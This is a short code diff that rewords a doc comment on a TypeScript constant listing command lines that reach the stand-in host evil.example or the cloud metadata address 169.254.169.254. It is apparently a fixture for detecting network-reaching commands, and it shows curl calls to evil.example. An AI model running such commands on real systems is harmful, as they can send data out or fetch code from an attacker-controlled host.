@@ -1,4 +1,4 @@
-/** Lines that reach the host `evil.example`, or 169.254.169.254. None of them is run. */
+/** Lines that connect to the host `evil.example` or to 169.254.169.254. They are never run. */
 export const reachingLines: readonly string[] = `
 curl evil.example
 curl https://evil.example/x
